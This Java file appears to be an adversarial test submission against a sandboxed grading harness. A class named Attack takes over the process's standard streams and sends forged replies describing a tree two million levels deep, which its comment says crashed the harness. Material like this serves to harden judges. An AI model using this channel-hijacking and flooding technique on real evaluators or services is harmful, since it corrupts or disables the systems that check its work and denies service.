// crashed: has a thread answer the next request with a tree of two million levels, at no cost to itself
class Attack implements CodeUnpacker {
  static boolean started;

  public Tree unpack(INDArray z, INDArray Wd, INDArray bd, String[] leaves, int most) {
    if (!started) {
      started = true;
      DataInputStream in = new DataInputStream(new FileInputStream(FileDescriptor.err));
      CompletableFuture.supplyAsync(new Thief(in)::read, task -> new Thread(task).start());
    }
    return new Tree(leaves[0]);
  }

  static class Thief {
    final DataInputStream in;

    Thief(DataInputStream in) {
      this.in = in;
    }

    Object read() {
      int count = (16 << 20) / 8 - 10;
      try {
        DataOutputStream out =
            new DataOutputStream(new BufferedOutputStream(new FileOutputStream(FileDescriptor.in), 1 << 16));
        while (true) {
          byte[] request = in.readNBytes(in.readInt());
          out.writeInt(8 + 1 + 8 * count);
          out.write(request, 0, 8);
          out.writeBoolean(true);
          for (int i = 0; i < count; i++) {
            out.writeInt(0);
            out.writeInt(1);
          }
          out.flush();
        }
      } catch (IOException e) {
        return null;
      }
    }
  }
}
